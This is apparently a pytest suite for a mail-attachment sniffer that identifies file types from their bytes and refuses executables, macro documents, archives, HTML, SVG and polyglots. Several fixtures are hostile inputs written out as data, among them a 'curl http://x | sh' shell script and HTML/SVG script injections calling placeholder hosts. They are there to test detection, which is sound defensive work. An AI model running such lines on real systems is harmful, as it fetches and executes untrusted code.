"""mailingest.core.sniff: what an attachment really is, from its bytes.

Every sample is built here, in memory: tiny magic-number prefixes, real
ZIP/tar/gzip containers from the standard library, and hand-made OLE2
compound files.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import struct
import tarfile
import zipfile
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailingest.core import sniff as sniff_module
from mailingest.core.sniff import ALLOWED_KINDS, KNOWN_KINDS, SCAN_LIMIT, Sniffed, sniff

# --------------------------------------------------------------------------
# Sample builders
# --------------------------------------------------------------------------

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n"
EML = (
    b"Received: from mx.example.net by mail.example.com\r\n"
    b"From: Jane Doe <jane@example.net>\r\n"
    b"To: support@example.com\r\n"
    b"Subject: my passport\r\n"
    b"  (folded continuation)\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"Please find my documents attached.\r\n"
)

DOCX_TYPES = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT_MIME = "application/vnd.oasis.opendocument.text"


def make_zip(
    entries: dict[str, bytes],
    *,
    compression: int = zipfile.ZIP_DEFLATED,
    stored: tuple[str, ...] = ("mimetype",),
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in entries.items():
            archive.writestr(
                name, content, compress_type=zipfile.ZIP_STORED if name in stored else compression
            )
    return buffer.getvalue()


def docx(*extra: str) -> bytes:
    entries = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document/>",
    }
    entries.update({name: b"x" for name in extra})
    return make_zip(entries)


def xlsx(*extra: str) -> bytes:
    entries = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": b"<Relationships/>",
        "xl/workbook.xml": b"<workbook/>",
        "xl/worksheets/sheet1.xml": b"<worksheet/>",
    }
    entries.update({name: b"x" for name in extra})
    return make_zip(entries)


def odf(
    mimetype: str = ODT_MIME,
    *,
    compression: int = zipfile.ZIP_DEFLATED,
    stored: tuple[str, ...] = ("mimetype",),
) -> bytes:
    entries = {
        "mimetype": mimetype.encode(),
        "META-INF/manifest.xml": b"<manifest/>",
        "content.xml": b"<office:document-content/>",
    }
    return make_zip(entries, compression=compression, stored=stored)


ENDOFCHAIN = 0xFFFFFFFE
FREE = 0xFFFFFFFF
FATSECT = 0xFFFFFFFD
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MSI_CLSID = bytes.fromhex("84100c00000000000000000000000046")
WORD_CLSID = bytes.fromhex("06090200000000000000000000000046")


def ole_entry(name: str, object_type: int, clsid: bytes = bytes(16)) -> bytes:
    entry = bytearray(128)
    encoded = name.encode("utf-16-le") + b"\x00\x00"
    entry[: len(encoded)] = encoded
    struct.pack_into("<HBB", entry, 64, len(encoded), object_type, 1)
    struct.pack_into("<III", entry, 68, FREE, FREE, FREE)
    entry[80:96] = clsid
    return bytes(entry)


def make_ole(
    streams: list[str],
    *,
    root_clsid: bytes = bytes(16),
    sector_shift: int = 9,
    dir_sectors: tuple[int, ...] = (),
    chain: dict[int, int] | None = None,
) -> bytes:
    """A minimal compound file: sector 0 is the FAT, the directory in ``dir_sectors``
    (default: sectors 1, 2, ... as many as needed).

    ``streams`` become directory entries after the root ("Storage:" prefix
    makes a storage).  ``chain`` overrides FAT links (e.g. to build a loop).
    """
    size = 1 << sector_shift
    if not dir_sectors:
        dir_sectors = tuple(range(1, 2 + len(streams) // (size // 128)))
    header = bytearray(size)
    header[:8] = OLE_MAGIC
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3 if sector_shift == 9 else 4, 0xFFFE, 9, 6)
    header[30:32] = struct.pack("<H", sector_shift)
    struct.pack_into("<II", header, 44, 1, dir_sectors[0])
    struct.pack_into("<IIIII", header, 56, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
    struct.pack_into("<109I", header, 76, 0, *([FREE] * 108))

    entries = [ole_entry("Root Entry", 5, root_clsid)]
    for stream in streams:
        if stream.startswith("Storage:"):
            entries.append(ole_entry(stream.removeprefix("Storage:"), 1))
        else:
            entries.append(ole_entry(stream, 2))
    per_sector = size // 128
    directory = b"".join(entries)
    directory += bytes(-len(directory) % size)
    pieces = [directory[i : i + size] for i in range(0, len(directory), size)]
    assert len(pieces) == len(dir_sectors), "give one directory sector per piece"

    fat = [FREE] * (size // 4)
    fat[0] = FATSECT
    for current, following in zip(dir_sectors, (*dir_sectors[1:], ENDOFCHAIN), strict=True):
        fat[current] = following
    for current, following in (chain or {}).items():
        fat[current] = following
    sectors = [b""] * (max(dir_sectors) + 1)
    sectors[0] = struct.pack(f"<{size // 4}I", *fat)
    for number, piece in zip(dir_sectors, pieces, strict=True):
        sectors[number] = piece
    body = b"".join(sector or bytes(size) for sector in sectors)
    assert per_sector * len(pieces) >= len(entries)
    return bytes(header) + body


def bmp(dib_size: int = 40) -> bytes:
    pixels = b"\x00\x00\xff\x00"  # one red pixel, row padded to 4 bytes
    offset = 14 + dib_size
    header = b"BM" + struct.pack("<IHHI", offset + len(pixels), 0, 0, offset)
    if dib_size == 12:
        dib = struct.pack("<IHHHH", 12, 1, 1, 1, 24)
    else:
        dib = struct.pack("<IiiHHIIiiII", 40, 1, 1, 1, 24, 0, 4, 2835, 2835, 0, 0)
        dib += bytes(dib_size - 40)
        dib = struct.pack("<I", dib_size) + dib[4:]
    return header + dib + pixels


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = major + b"\x00\x00\x00\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + b"\x00\x00\x00\x08mdat"


def make_tar(tar_format: int) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tar_format) as archive:
        info = tarfile.TarInfo("passport.pdf")
        info.size = len(PDF)
        archive.addfile(info, io.BytesIO(PDF))
    return buffer.getvalue()


# --------------------------------------------------------------------------
# One sample per kind
# --------------------------------------------------------------------------

MACHO = "application/x-mach-binary"
OCTETS = "application/octet-stream"

SAMPLES: list[tuple[str, Callable[[], bytes], str, str, str]] = [
    # (id, builder, kind, mime, extension)
    ("pdf", lambda: PDF, "pdf", "application/pdf", "pdf"),
    ("jpeg", lambda: JPEG, "jpeg", "image/jpeg", "jpg"),
    ("png", lambda: PNG, "png", "image/png", "png"),
    ("gif87", lambda: b"GIF87a\x01\x00\x01\x00\x00\x00\x00;", "gif", "image/gif", "gif"),
    ("gif89", lambda: b"GIF89a\x01\x00\x01\x00\x80\x00\x00;", "gif", "image/gif", "gif"),
    ("tiff-le", lambda: b"II*\x00\x08\x00\x00\x00\x00\x00", "tiff", "image/tiff", "tif"),
    ("tiff-be", lambda: b"MM\x00*\x00\x00\x00\x08\x00\x00", "tiff", "image/tiff", "tif"),
    ("heic", lambda: ftyp(b"heic", b"mif1", b"heic"), "heic", "image/heic", "heic"),
    ("heif-mif1", lambda: ftyp(b"mif1", b"mif1", b"heic"), "heic", "image/heic", "heic"),
    ("avif", lambda: ftyp(b"avif", b"avif", b"mif1", b"miaf"), "avif", "image/avif", "avif"),
    ("avif-mif1", lambda: ftyp(b"mif1", b"mif1", b"avif"), "avif", "image/avif", "avif"),
    ("webp", lambda: b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00", "webp", "image/webp", "webp"),
    ("bmp", lambda: bmp(40), "bmp", "image/bmp", "bmp"),
    ("bmp-v5", lambda: bmp(124), "bmp", "image/bmp", "bmp"),
    ("bmp-core", lambda: bmp(12), "bmp", "image/bmp", "bmp"),
    ("docx", docx, "docx", DOCX_TYPES, "docx"),
    ("xlsx", xlsx, "xlsx", XLSX_TYPES, "xlsx"),
    ("odt", odf, "odt", ODT_MIME, "odt"),
    ("doc", lambda: make_ole(["WordDocument", "1Table"]), "doc", "application/msword", "doc"),
    ("xls", lambda: make_ole(["Workbook"]), "doc", "application/vnd.ms-excel", "xls"),
    ("rtf", lambda: b"{\\rtf1\\ansi Passport scan attached}", "rtf", "application/rtf", "rtf"),
    ("txt", lambda: b"Account 1234, please verify.\n", "txt", "text/plain", "txt"),
    ("zip", lambda: make_zip({"passport.pdf": PDF}), "zip", "application/zip", "zip"),
    ("zip-empty", lambda: make_zip({}), "zip", "application/zip", "zip"),
    ("rar4", lambda: b"Rar!\x1a\x07\x00\xcf\x90s\x00\x00\r", "rar", "application/vnd.rar", "rar"),
    ("rar5", lambda: b"Rar!\x1a\x07\x01\x00\x33\x92\xb5\xe5", "rar", "application/vnd.rar", "rar"),
    ("7z", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04", "7z", "application/x-7z-compressed", "7z"),
    ("gzip", lambda: gzip.compress(PDF), "gzip", "application/gzip", "gz"),
    ("bzip2", lambda: bz2.compress(PDF), "bzip2", "application/x-bzip2", "bz2"),
    ("bzip2-empty", lambda: bz2.compress(b""), "bzip2", "application/x-bzip2", "bz2"),
    ("xz", lambda: lzma.compress(PDF), "xz", "application/x-xz", "xz"),
    ("tar-pax", lambda: make_tar(tarfile.PAX_FORMAT), "tar", "application/x-tar", "tar"),
    ("tar-gnu", lambda: make_tar(tarfile.GNU_FORMAT), "tar", "application/x-tar", "tar"),
    ("exe", lambda: EXE, "exe", "application/vnd.microsoft.portable-executable", "exe"),
    ("msi", lambda: make_ole([], root_clsid=MSI_CLSID), "exe", "application/x-msi", "msi"),
    ("elf", lambda: b"\x7fELF\x02\x01\x01" + bytes(9), "elf", "application/x-executable", "elf"),
    ("macho64", lambda: b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "macho", MACHO, "macho"),
    ("macho-fat", lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "macho", MACHO, "macho"),
    ("macho32-be", lambda: b"\xfe\xed\xfa\xce\x00\x00\x00\x12", "macho", MACHO, "macho"),
    ("script", lambda: b"#!/bin/sh\ncurl http://x | sh\n", "script", "text/x-shellscript", "sh"),
    ("html", lambda: HTML, "html", "text/html", "html"),
    ("svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', "svg", "image/svg+xml", "svg"),
    ("unknown", lambda: b"\x01\x02\x03\x00\x04binary", "unknown", OCTETS, "bin"),
    ("empty", lambda: b"", "empty", "application/x-empty", "bin"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("builder", "kind", "mime", "extension"),
    [pytest.param(*sample[1:], id=sample[0]) for sample in SAMPLES],
)
def test_each_kind(builder: Callable[[], bytes], kind: str, mime: str, extension: str) -> None:
    result = sniff(builder())
    assert result == Sniffed(kind, mime, extension, kind in ALLOWED_KINDS)


def test_allowed_kinds_are_documents_and_images() -> None:
    assert {
        "pdf", "jpeg", "png", "gif", "tiff", "heic", "avif", "webp", "bmp",
        "docx", "xlsx", "odt", "doc", "rtf", "txt", "eml",
    } == ALLOWED_KINDS  # fmt: skip
    assert ALLOWED_KINDS < KNOWN_KINDS
    refused = KNOWN_KINDS - ALLOWED_KINDS
    assert refused == {
        "zip", "rar", "7z", "gzip", "bzip2", "xz", "tar", "exe", "elf", "macho", "script",
        "html", "svg", "macro", "ole", "unknown", "empty",
    }  # fmt: skip


def test_every_known_kind_has_a_sample() -> None:
    covered = {sample[2] for sample in SAMPLES} | {"eml", "macro", "ole"}
    assert covered == KNOWN_KINDS


# --------------------------------------------------------------------------
# Declared type and filename do not decide
# --------------------------------------------------------------------------


def test_pdf_named_jpg_is_pdf() -> None:
    result = sniff(PDF, declared_type="image/jpeg", filename="passport.jpg")
    assert (result.kind, result.extension, result.allowed) == ("pdf", "pdf", True)


def test_exe_named_pdf_declared_pdf_is_refused() -> None:
    result = sniff(EXE, declared_type="application/pdf", filename="passport.pdf")
    assert (result.kind, result.allowed) == ("exe", False)


def test_html_named_pdf_is_refused() -> None:
    result = sniff(HTML, declared_type="application/pdf", filename="bill.pdf")
    assert (result.kind, result.allowed) == ("html", False)


def test_jpeg_declared_octet_stream_is_jpeg() -> None:
    assert sniff(JPEG, declared_type="application/octet-stream", filename="scan").kind == "jpeg"


@pytest.mark.parametrize("declared", ["message/rfc822", "Message/RFC822; charset=utf-8"])
def test_eml_with_declared_rfc822(declared: str) -> None:
    result = sniff(EML, declared_type=declared, filename="forwarded.txt")
    assert result == Sniffed("eml", "message/rfc822", "eml", True)


@pytest.mark.parametrize("declared", ["", "text/plain", "application/octet-stream"])
def test_eml_only_when_declared(declared: str) -> None:
    assert sniff(EML, declared_type=declared, filename="mail.eml").kind == "txt"


@pytest.mark.parametrize(
    "data",
    [
        b"Dear support,\n\nhere is my bill.\n",  # first line is not a header
        b" Indented: first line\n\nbody\n",  # continuation without a header
        b"Bad Name: value\n\nbody\n",  # space in the field name
        b"\n\nbody\n",
    ],
)
def test_declared_rfc822_that_is_not_headers_is_text(data: bytes) -> None:
    assert sniff(data, declared_type="message/rfc822").kind == "txt"


def test_eml_variants() -> None:
    declared = "message/rfc822"
    mbox = b"From jane@example.net Mon Jan  1 00:00:00 2024\n" + EML.replace(b"\r\n", b"\n")
    assert sniff(mbox, declared_type=declared).kind == "eml"
    assert sniff(b"Subject: headers only", declared_type=declared).kind == "eml"
    assert sniff(b"\xef\xbb\xbf" + EML, declared_type=declared).kind == "eml"
    # binary body after the header block does not matter
    assert sniff(EML + b"\x00\x01\x02", declared_type=declared).kind == "eml"
    # a long header block cut by the scan limit passes on its complete lines
    long_headers = b"".join(b"X-Trace-%d: %s\r\n" % (i, b"a" * 60) for i in range(2000))
    assert len(long_headers) > SCAN_LIMIT
    assert sniff(long_headers + b"\r\nbody", declared_type=declared).kind == "eml"
    # magic still wins over the declaration
    assert sniff(PDF, declared_type=declared).kind == "pdf"
    assert sniff(EXE, declared_type=declared).kind == "exe"


# --------------------------------------------------------------------------
# ZIP containers
# --------------------------------------------------------------------------


def test_docx_is_allowed_but_zip_with_pdf_is_refused() -> None:
    assert sniff(docx()) == Sniffed("docx", DOCX_TYPES, "docx", True)
    inner = sniff(make_zip({"passport.pdf": PDF}), declared_type=DOCX_TYPES, filename="id.docx")
    assert (inner.kind, inner.allowed) == ("zip", False)


def test_ooxml_needs_content_types() -> None:
    assert sniff(make_zip({"word/document.xml": b"<w:document/>"})).kind == "zip"
    assert sniff(make_zip({"[Content_Types].xml": b"<Types/>"})).kind == "zip"
    pptx = make_zip({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"})
    assert sniff(pptx).kind == "zip"


def test_ooxml_part_names_are_case_insensitive() -> None:
    data = make_zip({"[CONTENT_TYPES].XML": b"<Types/>", "Word/Document.xml": b"<w/>"})
    assert sniff(data).kind == "docx"


def test_stored_ooxml_is_recognised() -> None:
    data = make_zip(
        {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"},
        compression=zipfile.ZIP_STORED,
    )
    assert sniff(data).kind == "xlsx"


def test_macro_enabled_ooxml_is_refused() -> None:
    docm = sniff(docx("word/vbaProject.bin"), filename="contract.docx")
    assert docm == Sniffed(
        "macro", "application/vnd.ms-word.document.macroEnabled.12", "docm", False
    )
    xlsm = sniff(xlsx("xl/vbaProject.bin"))
    assert xlsm == Sniffed("macro", "application/vnd.ms-excel.sheet.macroEnabled.12", "xlsm", False)
    xlm = sniff(xlsx("xl/macrosheets/sheet1.xml"))
    assert (xlm.kind, xlm.extension, xlm.allowed) == ("macro", "xlsm", False)


def test_odf_only_text_documents() -> None:
    assert sniff(odf(compression=zipfile.ZIP_STORED)).kind == "odt"
    assert sniff(odf(stored=())).kind == "odt"  # deflated mimetype: tolerated, tiny
    assert sniff(odf(ODT_MIME + "\n")).kind == "odt"
    assert sniff(odf("application/vnd.oasis.opendocument.spreadsheet")).kind == "zip"
    assert sniff(odf("application/epub+zip")).kind == "zip"
    assert sniff(odf("x" * 300)).kind == "zip"  # oversized mimetype member is not read


def test_corrupt_zip_is_refused() -> None:
    good = docx()
    for corrupt in (
        b"PK\x03\x04" + b"\x00" * 100,  # no central directory
        good[: len(good) // 2],  # truncated
        good[:-22] + b"PK\x05\x06" + b"\xff" * 18,  # end record pointing nowhere
    ):
        result = sniff(corrupt)
        assert (result.kind, result.allowed) == ("zip", False)


def test_odt_with_bad_crc_mimetype_is_refused() -> None:
    data = bytearray(odf())
    at = data.index(ODT_MIME.encode())
    data[at] ^= 0x20  # the stored member no longer matches its CRC
    assert sniff(bytes(data)).kind == "zip"


def test_zip_with_huge_central_directory_is_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    entries = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}
    entries.update({f"{i}": b"" for i in range(10_001)})
    data = make_zip(entries, compression=zipfile.ZIP_STORED)
    small = docx()
    calls: list[io.BytesIO] = []
    real = zipfile.ZipFile

    def spy(file: io.BytesIO) -> zipfile.ZipFile:
        calls.append(file)
        return real(file)

    monkeypatch.setattr(sniff_module.zipfile, "ZipFile", spy)
    assert sniff(data).kind == "zip"
    assert calls == []
    assert sniff(small).kind == "docx"
    assert len(calls) == 1


def test_zip64_record_declaring_a_huge_directory_is_refused() -> None:
    data = docx()
    eocd = data[-22:]
    assert eocd.startswith(b"PK\x05\x06")
    entries, _cd_size, cd_offset = struct.unpack_from("<HII", eocd, 10)
    record_at = len(data) - 22
    record = struct.pack(
        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, 1 << 40, cd_offset
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, record_at, 1)
    forged = data[:-22] + record + locator + eocd
    assert sniff(forged).kind == "zip"


# --------------------------------------------------------------------------
# OLE2 compound files
# --------------------------------------------------------------------------


def test_ole_word_and_excel() -> None:
    assert sniff(make_ole(["WordDocument", "1Table"], root_clsid=WORD_CLSID)).kind == "doc"
    assert sniff(make_ole(["Book"])).extension == "xls"  # Excel 5/95
    assert sniff(make_ole(["WordDocument"], sector_shift=12)).kind == "doc"


def test_ole_with_macros_is_refused() -> None:
    word = sniff(make_ole(["WordDocument", "1Table", "Storage:Macros", "Storage:VBA"]))
    assert word == Sniffed("macro", "application/msword", "doc", False)
    excel = sniff(make_ole(["Workbook", "Storage:_VBA_PROJECT_CUR", "Storage:VBA"]))
    assert excel == Sniffed("macro", "application/vnd.ms-excel", "xls", False)


def test_ole_directory_chain_is_followed() -> None:
    # 4 entries per 512-byte sector: the macro storage lands in the second
    # directory sector, which is not adjacent to the first.
    streams = ["WordDocument", "1Table", "Data", "SummaryInformation", "Storage:Macros"]
    assert sniff(make_ole(streams, dir_sectors=(1, 3))).kind == "macro"
    assert sniff(make_ole([*streams[:-1], "Other"], dir_sectors=(3, 1))).kind == "doc"


def test_ole_directory_loop_terminates() -> None:
    streams = ["WordDocument", "1Table", "Data", "SummaryInformation", "Other"]
    looped = make_ole(streams, dir_sectors=(1, 2), chain={2: 1})
    assert sniff(looped).kind == "doc"


def test_other_ole_is_refused() -> None:
    for data in (
        make_ole(["__substg1.0_0037001F", "__properties_version1.0"]),  # Outlook .msg
        make_ole(["PowerPoint Document", "Current User"]),
        make_ole(["EncryptionInfo", "EncryptedPackage"]),  # password-protected docx
        OLE_MAGIC + bytes(100),  # truncated header
        make_ole(["WordDocument"])[:600],  # directory sector missing
    ):
        result = sniff(data)
        assert (result.kind, result.allowed) == ("ole", False)


# --------------------------------------------------------------------------
# Polyglots, junk, markup and text
# --------------------------------------------------------------------------


def test_pdf_after_junk_is_pdf() -> None:
    junk = (b"\x01junk\x00" * 100)[:500]
    assert len(junk) == 500
    assert sniff(junk + PDF).kind == "pdf"
    assert sniff(b"x" * 1023 + PDF).kind == "pdf"  # "%PDF-" starting at offset 1023
    assert sniff(b"x" * 1024 + PDF).kind == "txt"  # ... but not at 1024
    assert sniff(b"\x01\x00" * 1200 + PDF).kind == "unknown"  # too far for Acrobat


def test_junk_before_pdf_cannot_be_active_content() -> None:
    assert sniff(EXE + PDF).kind == "exe"
    assert sniff(HTML + PDF).kind == "html"
    assert sniff(b"#!/bin/sh\n" + PDF).kind == "script"
    assert sniff(make_zip({"a": b"b"}) + PDF).kind == "zip"


def test_pdf_that_is_also_a_tar_header_is_refused() -> None:
    polyglot = bytearray(PDF + bytes(600))
    polyglot[257:265] = b"ustar\x0000"
    assert sniff(bytes(polyglot)).kind == "tar"


def test_bm_text_is_not_bmp() -> None:
    assert sniff(b"BMW invoice for March, total 420 EUR\n").kind == "txt"
    bad_dib = bytearray(bmp(40))
    bad_dib[14:18] = struct.pack("<I", 41)
    assert sniff(bytes(bad_dib)).kind == "unknown"


def test_other_iso_media_is_not_heic() -> None:
    assert sniff(ftyp(b"isom", b"isom", b"mp41")).kind == "unknown"
    assert sniff(ftyp(b"qt  ")).kind == "unknown"
    assert sniff(b"RIFF\x24\x00\x00\x00WAVEfmt ").kind == "unknown"


@pytest.mark.parametrize(
    "data",
    [
        b"<!doctype html><p>hi",
        b"\xef\xbb\xbf  \n<HTML>\n<body>",
        b"\n\n<ScRiPt>fetch('//x')</script>",
        b"<!-- saved from url -->\n<html>",
        b"<iframe src=//evil>",
        b'<?xml version="1.0"?>\n<!DOCTYPE html>\n<html xmlns="http://www.w3.org/1999/xhtml">',
        b"<a href=x>click</a>",
        b"<p>",
        b"<div\n>",
        b"<foo><object data=x></object>",
        "\ufeff<html><body>".encode("utf-16-le"),
        b"\xfe\xff" + "<html>".encode("utf-16-be"),
    ],
)
def test_html_is_refused(data: bytes) -> None:
    result = sniff(data, declared_type="application/pdf", filename="doc.pdf")
    assert (result.kind, result.allowed) == ("html", False)


@pytest.mark.parametrize(
    "data",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator: Illustrator -->\n<svg>',
        b"<!-- comment -->\n<svg>",
        b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg:svg>',
        b"  \t<SVG\nwidth='1'/>",
    ],
)
def test_svg_is_refused(data: bytes) -> None:
    result = sniff(data, declared_type="image/png", filename="selfie.png")
    assert (result.kind, result.allowed) == ("svg", False)


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?><invoice><total>12</total></invoice>',
        b"<Customer name> asked about <account>\n",
        b"Dear support,\n<script> is just a word here\n",
        b"<svgx/> <htmlfoo>",
    ],
)
def test_markup_without_active_tags_is_text(data: bytes) -> None:
    assert sniff(data).kind == "txt"


def test_text() -> None:
    assert sniff("Führerschein, Straße 5\n".encode()).kind == "txt"
    assert sniff("Führerschein, Straße 5\n".encode("latin-1")).kind == "txt"  # not UTF-8
    assert sniff("Водительское удостоверение".encode("cp1251")).kind == "txt"
    assert sniff(b"\xef\xbb\xbfwith BOM\r\n\tand tab\x0c").kind == "txt"
    assert sniff("\ufeffUTF-16 text".encode("utf-16-le")).kind == "txt"
    assert sniff("\ufeffUTF-16 text".encode("utf-16-be")).kind == "txt"
    # a 64 KiB prefix cut inside a multi-byte character is still text
    assert sniff(("é" * SCAN_LIMIT).encode()).kind == "txt"


def test_text_with_nul_is_unknown() -> None:
    result = sniff(b"Passport number 123\x00456\n", filename="passport.txt")
    assert (result.kind, result.allowed) == ("unknown", False)
    assert sniff(b"\xff\xfe" + "odd length".encode("utf-16-le") + b"x").kind == "unknown"


def test_text_with_control_characters_is_unknown() -> None:
    assert sniff(b"abc\x01\x02\x03def" * 10).kind == "unknown"
    assert sniff(b"a" * 200 + b"\x01").kind == "txt"  # one stray control in 201 bytes


def test_bytes_like_input() -> None:
    assert sniff(bytearray(PDF)).kind == "pdf"  # type: ignore[arg-type]
    assert sniff(memoryview(JPEG)).kind == "jpeg"  # type: ignore[arg-type]


# --------------------------------------------------------------------------
# Properties and timing
# --------------------------------------------------------------------------

MAGIC_PREFIXES = [
    b"%PDF-",
    b"\xff\xd8\xff",
    b"\x89PNG\r\n\x1a\n",
    b"GIF89a",
    b"II*\x00",
    b"\x00\x00\x00\x18ftypmif1",
    b"\x00\x00\x00\xffftypheic",
    b"RIFF\x00\x00\x00\x00WEBP",
    b"BM",
    b"BM\x00\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00\x28\x00\x00\x00",
    OLE_MAGIC,
    b"{\\rtf",
    b"PK\x03\x04",
    b"PK\x05\x06",
    b"MZ",
    b"#!",
    b"<svg ",
    b"<!--",
    b"<?xml",
    b"\xff\xfe",
    b"\xfe\xff",
    b"\xef\xbb\xbf",
    b"From: a@b\r\n",
    b"BZh9",
]
SEEDS = [docx(), xlsx(), odf(), make_ole(["WordDocument", "Storage:Macros"]), bmp(), PDF]


@st.composite
def hostile_bytes(draw: st.DrawFn) -> bytes:
    choice = draw(st.integers(0, 2))
    if choice == 0:
        return draw(st.binary(max_size=4096))
    if choice == 1:
        return draw(st.sampled_from(MAGIC_PREFIXES)) + draw(st.binary(max_size=2048))
    data = bytearray(draw(st.sampled_from(SEEDS)))  # a real container, mutated
    for _ in range(draw(st.integers(1, 8))):
        at = draw(st.integers(0, len(data) - 1))
        data[at] = draw(st.integers(0, 255))
    if draw(st.booleans()):
        del data[draw(st.integers(0, len(data))) :]
    return bytes(data)


@settings(max_examples=300, deadline=None)
@given(
    data=hostile_bytes(),
    declared=st.sampled_from(["", "message/rfc822", "application/pdf", "image/jpeg"]),
    filename=st.sampled_from(["", "passport.pdf", "x.exe", "bill.jpg"]),
)
def test_sniff_never_raises_and_is_consistent(data: bytes, declared: str, filename: str) -> None:
    result = sniff(data, declared_type=declared, filename=filename)
    assert result.kind in KNOWN_KINDS
    assert result.allowed == (result.kind in ALLOWED_KINDS)
    assert result.mime and result.extension
    if declared != "message/rfc822":
        assert result == sniff(data)  # declared type and filename never decide
    elif result.kind != "eml":
        assert result == sniff(data)


def test_25_mb_inputs_are_told_apart_by_their_head() -> None:
    """Large inputs get the kind their first bytes give (the time it takes, bounded by the
    head it reads: ``python -m bench micro``)."""
    random_buffer = os.urandom(25 * 1024 * 1024)
    kinds = {
        label: sniff(data).kind
        for label, data in (
            ("random", random_buffer),
            ("pdf", b"%PDF-1.7\n" + random_buffer),
            ("text", b"a" * (25 * 1024 * 1024)),
            ("ole", make_ole(["WordDocument"]) + random_buffer),
        )
    }
    assert kinds == {"random": "unknown", "pdf": "pdf", "text": "txt", "ole": "doc"}
